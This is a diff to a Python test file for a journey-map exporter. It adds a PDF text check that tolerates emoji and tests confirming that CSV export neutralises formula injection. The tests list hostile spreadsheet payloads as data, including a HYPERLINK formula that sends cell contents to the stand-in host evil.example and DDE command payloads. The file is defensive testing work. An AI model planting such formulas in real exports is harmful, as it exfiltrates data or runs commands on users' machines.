@@ -16,7 +16,7 @@ from markupsafe import escape
 from pypdf import PdfReader
 
 from flows.i18n import domain
-from flows.model import Author, Item, JourneyMap, Stage
+from flows.model import Author, Item, JourneyMap, Persona, Rating, Stage
 from flows.spec import Lane
 from renderers.examples import example_paths, load_example, stress_map
 from renderers.export import FORMATS, export_map, file_name, render_file
@@ -47,6 +47,12 @@ def every_item(journey_map: JourneyMap) -> list[Item]:
     ]
     items += [s.owner for s in journey_map.stages if s.owner]
     return items + journey_map.needs.have + journey_map.needs.need
+
+
+def without_emoji(text: str) -> str:
+    from renderers.textfit import metrics
+
+    return "".join(ch for ch in text if metrics(False).font_of.get(ch, 0) == 0)
 
 
 def squeeze(text: str) -> str:
@@ -183,7 +189,10 @@ def test_pdf_has_the_map_then_every_answer_in_full(name: str) -> None:
     assert len(reader.pages) >= 3
     flat = squeeze(text)
     for item in every_item(journey_map):
-        assert squeeze(clean(item.text)) in flat
+        # Emoji are drawn from the fallback font; matplotlib 3.11 maps its glyphs back to text,
+        # 3.10's PDF does not (pypdf then reads the line without them).
+        whole = squeeze(clean(item.text))
+        assert whole in flat or squeeze(without_emoji(clean(item.text))) in flat
         assert squeeze(item.author.name) in flat
     for _, items in CHECKLIST:
         assert all(squeeze(t) in flat for t, _ in items)
@@ -232,3 +241,48 @@ def test_file_names_come_from_the_title() -> None:
         == "studio-ruchu-forma-dzień-z-życia-klubowiczki.pdf"
     )
     assert file_name(JourneyMap(), "preview") == "journey-map-preview.png"
+
+
+# -- CSV formula injection (OWASP) --------------------------------------------------------
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised() -> None:
+    hostile = [
+        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+        "=cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        "\tindented =1",
+        "\r=1",
+        "- a list item",
+    ]
+    me = Author(id="9", name="=evil()")
+    stage = Stage(name="@stage", pains=[Item(text=text, author=me) for text in hostile])
+    stage.rate(Rating(persona="Ania", score=-1, word="=bad()", author=me))
+    journey_map = JourneyMap(
+        title="CSV", personas=[Persona(name="Ania", author=me)], stages=[stage]
+    )
+    _, *rows = csv_rows(journey_map)
+    pains = [r[4] for r in rows if r[1] == tr("en", "lane.pains")]
+    assert pains == ["'" + text for text in hostile]  # kept whole, behind a quote
+    rating = next(r for r in rows if r[1] == tr("en", "lane.emotion"))
+    assert rating[3] == "-1"  # a plain number cannot run anything: the score stays numeric
+    assert rating[4] == "'=bad()"
+    assert {r[0] for r in rows if r[0]} == {"'@stage"}
+    assert {r[5] for r in rows} == {"'=evil()"}
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            assert not cell.startswith("-") or cell == "-1", cell
+
+
+def test_csv_keeps_ordinary_text_as_written() -> None:
+    from renderers.tabular import neutralised
+
+    assert [neutralised(c) for c in ("Kopi = enak", "a-b", "", "3", "-0,5", "+2")] == [
+        "Kopi = enak",
+        "a-b",
+        "",
+        "3",
+        "-0,5",
+        "+2",
+    ]
